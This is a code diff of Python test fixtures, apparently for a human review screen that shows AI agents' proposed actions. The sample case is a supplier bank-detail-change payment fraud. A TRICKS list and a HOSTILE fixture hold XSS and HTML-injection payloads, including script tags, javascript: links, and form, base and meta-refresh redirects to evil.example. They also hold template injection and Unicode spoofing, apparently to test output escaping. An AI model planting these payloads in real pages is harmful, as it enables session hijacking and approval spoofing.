@@ -17,9 +17,9 @@ SMALLEST = {"task_type": "refund", "summary": "Is this all right?"}
 _LONG = "The account on the invoice differs from the one paid 14 times since 2023. "
 
 
-def _refund(id: str) -> dict[str, Any]:
+def _transfer(action_id: str) -> dict[str, Any]:
     return {
-        "id": id,
+        "id": action_id,
         "name": "payments.transfer",
         "title": "Pay €48,200.00 to the new account of Norvik Metals",
         "description": _LONG * 3,
@@ -53,8 +53,10 @@ def _refund(id: str) -> dict[str, Any]:
         },
         "compensation": {"name": "payments.recall", "note": "Recall before 16:00"},
         "claims": [
-            {"text": "The supplier wrote “our bank details changed”.",
-             "evidence": ["/context/conversation/messages/0"]},
+            {
+                "text": "The supplier wrote “our bank details changed”.",
+                "evidence": ["/context/conversation/messages/0"],
+            },
             {"text": "Goods were received.", "evidence": ["/context/process/completed/0"]},
             {"text": "The account is known.", "evidence": ["/context/customer/nothing"]},
             {"text": "It is urgent."},
@@ -79,8 +81,11 @@ FULLEST: dict[str, Any] = {
         "factors": [_LONG] * 10,
     },
     "flags": [
-        {"code": f"flag_{n}", "label": f"New account, not confirmed by phone {n}",
-         "severity": ("info", "warning", "critical")[n % 3]}
+        {
+            "code": f"flag_{n}",
+            "label": f"New account, not confirmed by phone {n}",
+            "severity": ("info", "warning", "critical")[n % 3],
+        }
         for n in range(12)
     ],
     "requested": {
@@ -96,20 +101,26 @@ FULLEST: dict[str, Any] = {
         "channel": "e-mail",
         "language": "en-GB",
     },
-    "proposed_actions": [_refund(f"a{n}") for n in range(5)],
+    "proposed_actions": [_transfer(f"a{n}") for n in range(5)],
     "context": {
         "conversation": {
             "channel": "e-mail",
             "language": "en",
             "sentiment_trend": "falling",
             "messages": [
-                {"role": "customer", "author": "billing@norvik.example",
-                 "at": "2026-11-18T09:00:00Z",
-                 "text": "Hello, our bank details changed. Please pay today. Do not call.",
-                 "sentiment": {"label": "pressing", "score": -0.6}},
+                {
+                    "role": "customer",
+                    "author": "billing@norvik.example",
+                    "at": "2026-11-18T09:00:00Z",
+                    "text": "Hello, our bank details changed. Please pay today. Do not call.",
+                    "sentiment": {"label": "pressing", "score": -0.6},
+                },
                 *(
-                    {"role": ("agent", "customer", "tool", "system", "operator")[n % 5],
-                     "at": f"2026-11-18T10:{n:02}:00Z", "text": f"Message {n}. " * 10}
+                    {
+                        "role": ("agent", "customer", "tool", "system", "operator")[n % 5],
+                        "at": f"2026-11-18T10:{n:02}:00Z",
+                        "text": f"Message {n}. " * 10,
+                    }
                     for n in range(40)
                 ),
             ],
@@ -119,32 +130,57 @@ FULLEST: dict[str, Any] = {
             "rationale": _LONG * 30,
             "steps": ["Looked at the invoice", {"tool": "ledger", "found": 14}],
             "alternatives": [{"label": "Wait", "confidence": 0.24, "why_not": "Due today"}],
-            "evidence": [{"label": "Mail 1", "source": "mail", "quote": "our bank details changed",
-                          "href": "https://evil.example/mail"}],
+            "evidence": [
+                {
+                    "label": "Mail 1",
+                    "source": "mail",
+                    "quote": "our bank details changed",
+                    "href": "https://evil.example/mail",
+                }
+            ],
             "uncertainties": ["Whether the sender is the supplier"],
         },
         "customer": {
-            "id": "c-1", "name": "Norvik Metals", "tier": "gold", "since": "2023-01-02",
+            "id": "c-1",
+            "name": "Norvik Metals",
+            "tier": "gold",
+            "since": "2023-01-02",
             "lifetime_value": {"value": "612400.70", "currency": "EUR"},
             "contact": {"email": "accounts@norvik.example"},
             "history": [{"at": "2026-10-22T08:00:00Z", "label": "Invoice paid"}] * 12,
             "attributes": {"country": "SE", "orders": [{"id": "o-1", "total": 12}]},
         },
         "process": {
-            "workflow": "invoice", "position": "step 4 of 6",
-            "completed": [{"label": "match_invoice", "status": "done"},
-                          {"label": "Check account", "status": "failed", "detail": {"hits": 0}}],
+            "workflow": "invoice",
+            "position": "step 4 of 6",
+            "completed": [
+                {"label": "match_invoice", "status": "done"},
+                {"label": "Check account", "status": "failed", "detail": {"hits": 0}},
+            ],
             "pending": [{"label": "Pay"}],
         },
         "environment": {
-            "logs": [{"at": "2026-11-18T10:00:00Z", "level": "warning", "text": "account unknown",
-                      "source": "ledger"}] * 20,
+            "logs": [
+                {
+                    "at": "2026-11-18T10:00:00Z",
+                    "level": "warning",
+                    "text": "account unknown",
+                    "source": "ledger",
+                }
+            ]
+            * 20,
             "errors": [{"message": "503 from the bank", "count": 3}],
             "metrics": {"run_cost": 0.04, "tool_calls": 11},
         },
     },
-    "attachments": [{"name": "invoice.pdf", "media_type": "application/pdf", "size": 120_000,
-                     "href": "https://files.example/invoice.pdf"}],
+    "attachments": [
+        {
+            "name": "invoice.pdf",
+            "media_type": "application/pdf",
+            "size": 120_000,
+            "href": "https://files.example/invoice.pdf",
+        }
+    ],
     "links": [{"rel": "order", "label": "Order 7", "href": "https://erp.example/orders/7"}],
     "attempted": [{"what": "Rang the supplier", "result": "failed", "detail": "No answer"}],
     "next_steps": ["Ask the buyer to ring the supplier"],
@@ -154,18 +190,18 @@ FULLEST: dict[str, Any] = {
 
 TRICKS = (
     "<script>window.hacked = 1; alert(1)</script>",
-    "<img src=x onerror=\"window.hacked = 1; alert(1)\">",
+    '<img src=x onerror="window.hacked = 1; alert(1)">',
     "<svg onload=alert(1)>",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "'-alert(1)-'",
     "{{ 7 * 7 }}{% csrf_token %}",
     "javascript:alert(1)",
     "![x](https://evil.example/pixel.png)",
-    "<a href=\"javascript:alert(1)\" hx-get=\"https://evil.example\" hx-trigger=load>x</a>",
-    "<form action=\"https://evil.example\"><button>Approve</button></form>",
+    '<a href="javascript:alert(1)" hx-get="https://evil.example" hx-trigger=load>x</a>',
+    '<form action="https://evil.example"><button>Approve</button></form>',
     "<style>*{display:none}</style>",
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    '<base href="https://evil.example/">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
     "</textarea><script>alert(1)</script>",
     "</title></section></main><h1>Approved</h1>",
     "pay \u202eOOD\u202c the \u2066man\u2069 \u200b\u200bnow\ufeff \U000e0041\U000e0042",
@@ -182,13 +218,22 @@ HOSTILE: dict[str, Any] = {
     "original_intent": TRICK,
     "source": {"agent": {"id": "mira", "name": TRICK[:255], "version": TRICKS[0][:64]}},
     "trigger": {"type": "other", "reason": TRICK, "rule": TRICKS[1][:255]},
-    "flags": [{"code": trick[:64], "label": trick[:255], "severity": "critical"}
-              for trick in TRICKS],
-    "requested": {"options": [{"id": trick[:255], "label": trick[:255], "effect": trick,
-                               "recommended": True} for trick in TRICKS[:6]]},
+    "flags": [
+        {"code": trick[:64], "label": trick[:255], "severity": "critical"} for trick in TRICKS
+    ],
+    "requested": {
+        "options": [
+            {"id": trick[:255], "label": trick[:255], "effect": trick, "recommended": True}
+            for trick in TRICKS[:6]
+        ]
+    },
     "risk": {"level": "low", "factors": [trick[:500] for trick in TRICKS]},
-    "draft_response": {"text": "\n\n".join(TRICKS), "format": "text/markdown",
-                       "channel": TRICKS[0][:64], "language": TRICKS[4][:35]},
+    "draft_response": {
+        "text": "\n\n".join(TRICKS),
+        "format": "text/markdown",
+        "channel": TRICKS[0][:64],
+        "language": TRICKS[4][:35],
+    },
     "proposed_actions": [
         {
             "id": trick[:255],
@@ -197,38 +242,69 @@ HOSTILE: dict[str, Any] = {
             "description": TRICK,
             "args": {trick: trick, "nested": {trick: [trick, {trick: None}]}, "list": [trick]},
             "switchable_to": [trick[:255]],
-            "args_schema": {"type": "object", "properties": {trick: {
-                "title": trick, "description": trick, "type": "string"}}},
+            "args_schema": {
+                "type": "object",
+                "properties": {trick: {"title": trick, "description": trick, "type": "string"}},
+            },
             "compensation": {"note": trick},
             "claims": [{"text": trick, "evidence": [trick, "/context/conversation/messages/0"]}],
         }
         for trick in TRICKS[:8]
     ],
     "context": {
-        "conversation": {"channel": TRICKS[0][:64], "messages": [
-            {"role": role, "author": TRICKS[1], "text": TRICK,
-             "sentiment": {"label": TRICKS[2], "score": -1},
-             "attachments": [TRICKS[0]], "tool_call": {"name": TRICKS[0]}}
-            for role in ("customer", "agent", "operator", "system", "tool")
-        ]},
-        "reasoning": {"confidence": 0.5, "rationale": TRICK, "steps": [TRICK, {TRICK: TRICK}],
-                      "alternatives": [{"label": TRICKS[0], "why_not": TRICK}],
-                      "evidence": [{"label": TRICKS[0], "source": TRICKS[1], "quote": TRICK,
-                                    "href": "javascript:alert(1)"}],
-                      "uncertainties": [TRICK]},
-        "customer": {"id": TRICKS[0], "name": TRICKS[1], "tier": TRICKS[2][:64],
-                     "contact": {TRICK: TRICK}, "attributes": {TRICKS[0]: {TRICKS[1]: {"a": TRICK}}},
-                     "history": [{"label": TRICK}]},
-        "process": {"workflow": TRICKS[0], "position": TRICKS[1],
-                    "completed": [{"label": TRICKS[2], "status": TRICKS[0][:64],
-                                   "detail": {TRICK: TRICK}}],
-                    "pending": [{"label": TRICKS[3]}]},
-        "environment": {"logs": [{"text": TRICK, "source": TRICKS[0], "level": "error"}],
-                        "errors": [{"message": TRICK, "source": TRICKS[1]}],
-                        "metrics": {TRICKS[0]: TRICKS[1]}},
+        "conversation": {
+            "channel": TRICKS[0][:64],
+            "messages": [
+                {
+                    "role": role,
+                    "author": TRICKS[1],
+                    "text": TRICK,
+                    "sentiment": {"label": TRICKS[2], "score": -1},
+                    "attachments": [TRICKS[0]],
+                    "tool_call": {"name": TRICKS[0]},
+                }
+                for role in ("customer", "agent", "operator", "system", "tool")
+            ],
+        },
+        "reasoning": {
+            "confidence": 0.5,
+            "rationale": TRICK,
+            "steps": [TRICK, {TRICK: TRICK}],
+            "alternatives": [{"label": TRICKS[0], "why_not": TRICK}],
+            "evidence": [
+                {
+                    "label": TRICKS[0],
+                    "source": TRICKS[1],
+                    "quote": TRICK,
+                    "href": "javascript:alert(1)",
+                }
+            ],
+            "uncertainties": [TRICK],
+        },
+        "customer": {
+            "id": TRICKS[0],
+            "name": TRICKS[1],
+            "tier": TRICKS[2][:64],
+            "contact": {TRICK: TRICK},
+            "attributes": {TRICKS[0]: {TRICKS[1]: {"a": TRICK}}},
+            "history": [{"label": TRICK}],
+        },
+        "process": {
+            "workflow": TRICKS[0],
+            "position": TRICKS[1],
+            "completed": [{"label": TRICKS[2], "status": TRICKS[0][:64], "detail": {TRICK: TRICK}}],
+            "pending": [{"label": TRICKS[3]}],
+        },
+        "environment": {
+            "logs": [{"text": TRICK, "source": TRICKS[0], "level": "error"}],
+            "errors": [{"message": TRICK, "source": TRICKS[1]}],
+            "metrics": {TRICKS[0]: TRICKS[1]},
+        },
     },
     "attachments": [{"name": TRICKS[0], "media_type": TRICKS[2], "href": "javascript:alert(1)"}],
-    "links": [{"rel": TRICKS[0][:64], "label": TRICKS[1], "href": "https://evil.example/%3Cscript%3E"}],
+    "links": [
+        {"rel": TRICKS[0][:64], "label": TRICKS[1], "href": "https://evil.example/%3Cscript%3E"}
+    ],
     "attempted": [{"what": TRICK[:500], "result": "failed", "detail": TRICK[:2000]}],
     "next_steps": [TRICK[:500]],
     "recommended_action": TRICKS[0],
